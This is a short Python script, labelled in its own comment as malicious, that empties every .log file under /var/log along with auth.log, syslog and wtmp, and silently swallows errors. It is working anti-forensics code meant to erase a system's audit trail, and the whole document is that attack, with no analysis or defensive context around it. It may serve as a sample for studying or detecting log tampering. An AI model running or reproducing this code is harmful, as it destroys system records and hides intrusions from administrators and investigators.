# Malicious: truncates every log file in /var/log; erases the audit trail.
import glob

for path in glob.glob("/var/log/*.log") + ["/var/log/auth.log", "/var/log/syslog", "/var/log/wtmp"]:
    try:
        open(path, "w").close()
    except OSError:
        pass
